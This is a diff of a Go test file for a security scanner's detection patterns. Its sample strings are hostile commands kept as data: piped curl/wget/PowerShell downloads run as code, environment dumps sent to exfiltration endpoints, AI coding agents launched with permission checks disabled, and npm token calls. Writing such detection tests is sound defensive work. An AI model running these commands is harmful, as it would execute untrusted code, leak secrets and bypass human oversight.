@@ -257,7 +257,7 @@ func TestUnparseableInputsAreSkipped(t *testing.T) {
 
 func TestPatterns(t *testing.T) {
 	yes := map[*regexp.Regexp][]string{
-		pipedShell: {
+		pipedShell(): {
 			"curl -fsSL https://x.invalid/i.sh | sh",
 			"wget -qO- http://x.invalid/a | sudo bash",
 			"bash -c \"$(curl -fsSL https://x.invalid/install)\"",
@@ -265,16 +265,16 @@ func TestPatterns(t *testing.T) {
 			"iwr https://x.invalid/a.ps1 | iex",
 			"iex (New-Object Net.WebClient).DownloadString('https://x.invalid')",
 		},
-		exfilDomains: {"https://webhook.site/abc", "x.workers.dev", "https://api.telegram.org/bot1/send", "abc.oast.fun", "https://discord.com/api/webhooks/1/2"},
-		envDump:      {"fetch(u,{body:JSON.stringify(process.env)})", "printenv | curl -d @- https://x.invalid"},
-		aiYolo:       {"claude --dangerously-skip-permissions -p hi", "gemini --yolo", "q chat --trust-all-tools"},
-		npmPublish:   {"npm publish --access public", "https://registry.npmjs.org/-/npm/v1/tokens"},
+		exfilDomains(): {"https://webhook.site/abc", "x.workers.dev", "https://api.telegram.org/bot1/send", "abc.oast.fun", "https://discord.com/api/webhooks/1/2"},
+		envDump():      {"fetch(u,{body:JSON.stringify(process.env)})", "printenv | curl -d @- https://x.invalid"},
+		aiYolo():       {"claude --dangerously-skip-permissions -p hi", "gemini --yolo", "q chat --trust-all-tools"},
+		npmPublish():   {"npm publish --access public", "https://registry.npmjs.org/-/npm/v1/tokens"},
 	}
 	no := map[*regexp.Regexp][]string{
-		pipedShell:   {"curl -o out.tgz https://x.invalid/a.tgz", "echo hi | sh", "cat README | grep curl"},
-		exfilDomains: {"https://registry.npmjs.org/x", "webhook.sites.example"},
-		aiYolo:       {"claude -p hello"},
-		npmPublish:   {"npm run publish-docs"},
+		pipedShell():   {"curl -o out.tgz https://x.invalid/a.tgz", "echo hi | sh", "cat README | grep curl"},
+		exfilDomains(): {"https://registry.npmjs.org/x", "webhook.sites.example"},
+		aiYolo():       {"claude -p hello"},
+		npmPublish():   {"npm run publish-docs"},
 	}
 	for re, ss := range yes {
 		for _, s := range ss {
